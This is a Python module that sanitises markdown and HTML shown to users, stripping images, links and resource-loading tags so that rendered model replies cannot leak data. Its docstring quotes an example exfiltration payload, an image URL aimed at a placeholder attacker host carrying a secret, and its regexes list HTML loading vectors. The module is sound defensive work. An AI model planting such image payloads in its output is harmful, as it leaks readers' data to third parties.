"""Neutralise remote content in text that will be shown to someone (model replies, documents, user input).

A rendered image is fetched by the reader's browser the moment it appears: a planted
`![](https://attacker/?q=secret)` leaks data without a click, and so do `<input type=image>`, a CSS
`url()`, `<table background>` and any other HTML that loads something. So the web app renders every
piece of text it shows through `safe_html`: markdown parsed by a real parser (markdown-it), images
replaced by their alt text, links by their text with the target shown as inert code, and the HTML
cleaned by a maintained sanitizer (nh3/ammonia) against a strict allowlist of tags with no URL
attributes at all. No regex decides what is HTML.

`strip_remote_content` does the same for markdown that leaves as text (the CLI, `--json`, exports).
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.token import Token

# What a rendered answer may contain: text structure only. No tag here can load anything, and no
# attribute is allowed but a list's start number, so no URL, style or event handler survives.
ALLOWED_TAGS = frozenset(
    {"p", "br", "hr", "strong", "em", "b", "i", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li"}
    | {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
)
ALLOWED_ATTRIBUTES = {"ol": {"start"}}


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.add_render_rule("image", _render_image)
    md.add_render_rule("link_open", _render_link_open)
    md.add_render_rule("link_close", _render_link_close)
    return md


def _render_image(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    alt = "".join(t.content for t in tokens[idx].children or [])
    return html.escape(f"(image removed{': ' + alt if alt else ''})")


def _render_link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    env.setdefault("links", []).append(str(tokens[idx].attrGet("href") or ""))
    return ""


def _render_link_close(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    links = env.get("links") or [""]
    target = links.pop()
    return f" (link removed: <code>{html.escape(target)}</code>)" if target else ""


_MARKDOWN = _parser()
_RAW_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_REMOTE_MARKERS = ("<img", "<input", "<image", "src=", "href=", "url(", "background=", "srcset", "poster=")

# For text that leaves as markdown (not rendered here): the same effect, by pattern.
_IMAGE = re.compile(r"!\[([^\[\]]*)\]\([^)]*\)")
_REF_IMAGE = re.compile(r"!\[([^\[\]]*)\]\[[^\]]*\]")
_LINK = re.compile(r"(?<!!)\[([^\[\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_REF_DEFINITION = re.compile(r"^\s*\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_LOADING_BLOCK = re.compile(r"<\s*(script|style|svg)\b.*?<\s*/\s*\1\s*>", re.IGNORECASE | re.DOTALL)
_HTML_TAG = re.compile(r"<\s*/?\s*[a-zA-Z][^>]*>")
_LOADS = re.compile(
    r"\b(?:src|href|background|srcset|poster|style|data)\s*=|url\(|^<\s*/?\s*(?:img|image|input|iframe|script|style|object|embed|link|meta|video|audio|source|svg|a|base|form)\b",
    re.IGNORECASE,
)
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+)>", re.IGNORECASE)
_BARE_URL = re.compile(r"(?<![`\w/])((?:https?|ftp)://[^\s)<>`]+|www\.[^\s)<>`]+)", re.IGNORECASE)


def clean_html(fragment: str) -> str:
    """`fragment` cleaned by nh3 against the strict allowlist: only text structure, no URL anywhere."""
    return nh3.clean(
        fragment,
        tags=set(ALLOWED_TAGS),
        attributes={tag: set(names) for tag, names in ALLOWED_ATTRIBUTES.items()},
        url_schemes=set(),
        link_rel=None,
        strip_comments=True,
    )


def safe_html(text: str) -> str:
    """Markdown `text` as HTML that loads nothing and links nowhere, on one line.

    One line, wrapped in a `<div>`: the browser's markdown renderer then sees a single HTML block
    and passes it through whole, so nothing inside (an escaped `![x](url)` in a code block, say) is
    read as markdown a second time. Rendering already-rendered text gives the same HTML back.
    """
    cleaned = clean_html(_MARKDOWN.render(text or "", {})).strip().replace("\r", "")
    return f"<div>{cleaned.replace(chr(10), '&#10;')}</div>" if cleaned else ""


def strip_remote_content(text: str) -> str:
    """Markdown `text` that leaves as text (CLI, JSON, exports) with no image, no HTML that loads
    anything and no clickable link; the web app does not rely on it, it renders with `safe_html`."""
    previous = None
    while previous != text:  # nested brackets ([![x](img)](link)) unwrap one level per pass
        previous = text
        text = _IMAGE.sub(lambda m: f"(image removed{': ' + m.group(1) if m.group(1) else ''})", text)
        text = _REF_IMAGE.sub(lambda m: f"(image removed{': ' + m.group(1) if m.group(1) else ''})", text)
        text = _LINK.sub(lambda m: f"{m.group(1)} (link removed: `{m.group(2)}`)", text)
    text = _REF_DEFINITION.sub("", text)
    text = _LOADING_BLOCK.sub("", text)
    text = _HTML_TAG.sub(lambda m: "" if _LOADS.search(m.group(0)) else m.group(0), text)
    text = _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
    return _BARE_URL.sub(lambda m: f"`{m.group(1)}`", text)


def has_remote_content(text: str) -> bool:
    """True when showing `text` as markdown in a browser could fetch or link to anything remote:
    judged on the HTML a markdown parser makes of it, not on the markdown."""
    rendered = _RAW_MARKDOWN.render(text or "").lower()
    return any(marker in rendered for marker in _REMOTE_MARKERS)
